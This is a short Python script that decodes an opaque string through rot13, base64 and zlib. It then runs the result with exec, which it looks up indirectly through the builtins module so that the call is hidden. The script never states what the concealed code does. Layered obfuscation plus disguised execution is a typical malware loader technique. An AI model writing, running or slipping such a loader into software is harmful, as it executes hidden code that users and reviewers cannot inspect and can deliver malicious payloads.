import codecs as c
import base64 as b
import zlib as z

BLOB = 'rWmYmP3VYlcElP+2OzX94fevxgEpQsKx0dVpOq1vuLlFxbWvX3395WD8iqFXkAlPaSG9PbHnurVZqH0NnZ4HBj=='


def _unwrap(s):
    step1 = c.decode(s, 'rot13')
    step2 = b.b64decode(step1)
    return z.decompress(step2)


runner = vars(__import__('builtins'))['exec']
runner(_unwrap(BLOB))
